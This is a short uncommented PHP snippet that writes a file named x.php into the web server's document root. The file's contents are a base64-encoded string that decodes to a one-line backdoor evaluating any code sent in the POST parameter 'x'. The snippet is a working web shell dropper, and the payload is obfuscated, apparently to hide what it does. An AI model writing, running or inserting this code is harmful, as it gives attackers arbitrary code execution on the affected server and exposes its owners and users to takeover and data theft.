<?php
$fp = fopen($_SERVER['DOCUMENT_ROOT'] . '/x.php', 'w+');
fwrite($fp, base64_decode('PD9waHAgZXZhbCgkX1BPU1RbJ3gnXSk7Pz4='));
